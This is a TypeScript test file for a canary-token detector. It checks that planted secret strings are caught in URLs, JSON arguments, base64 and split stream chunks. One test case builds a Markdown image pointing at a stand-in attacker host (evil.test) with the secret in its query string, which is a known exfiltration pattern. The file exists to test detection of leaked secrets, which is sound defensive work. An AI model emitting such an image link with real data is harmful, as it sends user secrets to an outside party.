/** Planted strings are found where they may not be: URL, arguments, Markdown, base64, and across chunks (F8). */
import { encodeUtf8 } from "@trustwarden/core/bytes.ts";
import { describe, expect, it } from "vitest";
import { createCanaryWatch } from "./canaries.ts";

const FIRST = "cnry_7Qm2/Zx9+Lk4";
const SECOND = "cnry_OtherPlace55";
const watch = createCanaryWatch([
  { name: "crm-row", value: FIRST },
  { name: "env-file", value: SECOND },
]);

describe("a canary", () => {
  it.each([
    ["in a URL", `/v1/x?q=${encodeURIComponent(FIRST)}`],
    ["in arguments", JSON.stringify({ note: FIRST })],
    ["in a Markdown image", `![a](https://evil.test/p.png?d=${FIRST})`],
    ["in base64", Buffer.from(`row: ${FIRST}!`).toString("base64")],
    ["in base64url", Buffer.from(`r: ${FIRST}!`).toString("base64url")],
  ])("is found %s", (_, text) => {
    expect(watch.find(text)).toEqual(["crm-row"]);
  });

  it("is named, and so is each other one, once", () => {
    expect(watch.find(`${SECOND} ${FIRST} ${SECOND}`)).toEqual(["env-file", "crm-row"]);
  });

  it("is not found in part, nor where nothing is planted", () => {
    expect(watch.find(FIRST.slice(0, -1))).toEqual([]);
    expect(createCanaryWatch([]).find(FIRST)).toEqual([]);
  });

  it("is found in a stream when it ends, wherever it was cut, and only then", () => {
    for (let cut = 1; cut < FIRST.length; cut += 1) {
      const stream = watch.stream();
      expect(stream.push(encodeUtf8(FIRST.slice(0, cut)))).toEqual([]);
      expect(stream.push(encodeUtf8(`${FIRST.slice(cut)} and on`))).toEqual(["crm-row"]);
      expect(stream.push(encodeUtf8("nothing more"))).toEqual([]);
    }
  });
});
